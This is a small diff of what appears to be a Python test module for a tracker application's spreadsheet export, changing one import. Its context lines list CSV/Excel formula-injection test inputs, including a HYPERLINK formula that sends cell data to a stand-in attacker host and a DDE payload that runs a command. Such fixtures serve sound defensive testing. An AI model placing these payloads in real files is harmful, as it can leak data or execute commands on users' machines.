@@ -10,7 +10,7 @@ from openpyxl import load_workbook
 
 from tracker.extensions import db
 from tracker.models import AccountabilityRecord, ItemStatus
-from tracker.services import audit
+from tracker.services.trust import audit
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
 RISKY = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
